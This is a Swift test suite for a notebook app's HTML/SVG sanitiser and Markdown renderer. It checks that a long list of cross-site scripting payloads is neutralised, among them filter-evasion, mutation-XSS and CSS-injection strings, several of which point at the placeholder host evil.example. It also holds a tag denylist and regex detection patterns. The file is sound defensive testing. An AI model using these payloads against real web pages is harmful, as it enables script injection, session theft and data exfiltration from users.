import Foundation
import Notebook
import Testing

/// Attacks of the kinds that OWASP's list of ways around filters collects, and of those that change when parsed twice.
@Suite("Sanitising markup")
struct MarkupSanitizerTests {
  private static let attacks = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>", "<img src=\"javascript:alert(1)\">", "<IMG SRC=`javascript:alert(1)`>",
    "<img \"\"\"><script>alert(1)</script>\">", "<img src=# onmouseover=\"alert(1)\">",
    "<img/src='x'/onerror='alert(1)'>",
    "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"java&#x0A;script:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;vascript&colon;alert(1)\">x</a>", "<a href=\"javascript&#58alert(1)\">x</a>",
    "<a href=\"java&Tab;script&colon;alert(1)\">x</a>", "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=\"javascript:alert(1)\"></iframe></foreignObject></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x\"/></svg>",
    "<svg><image href=\"https://evil.example/x\"/></svg>",
    "<svg><style>@import 'https://evil.example/x.css'</style></svg>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>", "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"background-image:url('https://evil.example/x')\">x</div>",
    "<div style=\"position:fixed;top:0\">x</div>",
    "<div style=\"background:\\75rl(https://evil.example)\">x</div>", "<div style=\"-moz-binding:url(x)\">x</div>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<object data=\"x.swf\"></object>",
    "<embed src=\"x.swf\">",
    "<base href=\"https://evil.example\">", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=https://evil.example>", "<form action=https://evil.example><input name=p></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<!--><script>alert(1)</script>-->", "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p title='\"><script>alert(1)</script>'>x", "<xmp><p title=\"</xmp><svg/onload=alert(1)>\"></xmp>",
    "<template><script>alert(1)</script></template>", "<textarea></textarea><script>alert(1)</script>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>", "<a href='x' onclick\u{C}=alert(1)>x</a>",
    "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">", "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<a href=x ping=https://evil.example>x</a>", "<q cite=\"javascript:alert(1)\">x</q>", "<\0script>alert(1)</script>",
  ]

  /// The tags of the result, by a reading that shares no code with the sanitiser.
  private func tags(in html: String) -> [String] {
    html.components(separatedBy: "<").dropFirst().map { String($0.prefix { $0 != ">" }) }
  }

  @Test(arguments: attacks) func nothingThatRunsOrLoadsIsLeft(attack: String) {
    for html in [
      MarkupSanitizer.sanitized(attack, identifierPrefix: "p-", scope: "s"), MarkdownRenderer().html(attack),
      MarkdownRenderer().html("text " + attack), MarkdownRenderer().html("<div>\n\(attack)\n</div>"),
    ] {
      for tag in tags(in: html) {
        let name = tag.drop { $0 == "/" }.prefix { $0.isLetter || $0.isNumber }.lowercased()
        #expect(
          ![
            "script", "iframe", "object", "embed", "base", "meta", "link", "form", "input", "foreignobject", "set",
            "animate",
          ].contains(name), "\(html)")
        // Inside a quoted value it would be text.
        let unquoted = tag.replacing(/"[^"]*"/, with: "\"\"")
        #expect(unquoted.firstMatch(of: /(?i)[\s\/"']on[a-z]+\s*=/) == nil, "\(html)")
        #expect(tag.firstMatch(of: /(?i)(javascript|vbscript)\s*:/) == nil, "\(html)")
        #expect(tag.firstMatch(of: /(?i)(href|src)="data:text/) == nil, "\(html)")
        #expect(tag.firstMatch(of: /(?i)src="https?:/) == nil, "\(html)")
      }
      #expect(
        html.firstMatch(of: /(?i)(style="[^"]*|<style>[^<]*)(expression|position:\s*fixed|evil|@import)/) == nil,
        "\(html)")
      // What is safe stays as it is when it is parsed again.
      let again = MarkupSanitizer.sanitized(html, scope: "s")
      #expect(tags(in: again).count == tags(in: html).count, "\(html) became \(again)")
    }
  }

  @Test func goodMarkupStays() {
    let table =
      "<table class=\"frame\"><thead><tr><th>a</th></tr></thead><tbody><tr><td style=\"text-align:right\">1</td></tr></tbody></table>"
    #expect(MarkupSanitizer.sanitized(table) == table)
    #expect(MarkupSanitizer.sanitized("a &amp; b &lt; c & d") == "a &amp; b &lt; c &amp; d")
    #expect(MarkupSanitizer.sanitized("<p>one<br/>two<hr>") == "<p>one<br>two<hr></p>")
  }

  @Test func drawingsKeepTheirSpellingAndVariables() {
    let svg =
      "<svg viewBox=\"0 0 1 1\"><linearGradient id=\"g\"/><path d=\"M0 0\" fill=\"url(#g)\" style=\"stroke:var(--jp-border-color0)\"/><use href=\"#g\"/></svg>"
    #expect(
      MarkupSanitizer.sanitized(svg, identifierPrefix: "o1-")
        == "<svg viewBox=\"0 0 1 1\"><linearGradient id=\"o1-g\"/><path d=\"M0 0\" fill=\"url(#o1-g)\" style=\"stroke:var(--jp-border-color0)\"/><use href=\"#o1-g\"/></svg>"
    )
  }

  @Test func prologsAndTitlesOfDrawingsAreKnown() {
    let svg = "<?xml version=\"1.0\"?><!DOCTYPE svg><svg><title>A <b>chart</b></title><g/></svg>"
    #expect(MarkupSanitizer.sanitized(svg) == "<svg><title>A chart</title><g/></svg>")
  }

  @Test func resultsAreBalanced() {
    #expect(MarkupSanitizer.sanitized("</div></main><div><b>x") == "<div><b>x</b></div>")
    #expect(MarkupSanitizer.sanitized("<b><i>x</b>y</i>") == "<b><i>x</i></b>y")
    #expect(MarkupSanitizer.sanitized("a <b") == "a ")
    #expect(MarkupSanitizer.sanitized("1 < 2") == "1 &lt; 2")
  }

  @Test func styleSheetsAreLimitedToTheirOutput() {
    #expect(
      MarkupSanitizer.sanitized("<style>th { color: red }</style>", scope: "o")
        == "<style>#o {th { color: red }}</style>")
    #expect(MarkupSanitizer.sanitized("<style>th { color: red }</style>") == "")
    for breaking in [
      "} body { color: red", "a { b: \"}", "a { b: url(x) }", "@font-face { src: x }", "a { b: ( }", "/* x",
    ] {
      #expect(MarkupSanitizer.sanitized("<style>\(breaking)</style>", scope: "o") == "", "\(breaking)")
    }
  }

  @Test func deepNestingIsFlattened() {
    let html = MarkupSanitizer.sanitized(String(repeating: "<div>", count: 100_000))
    #expect(html.components(separatedBy: "<div>").count <= 300)
  }
}
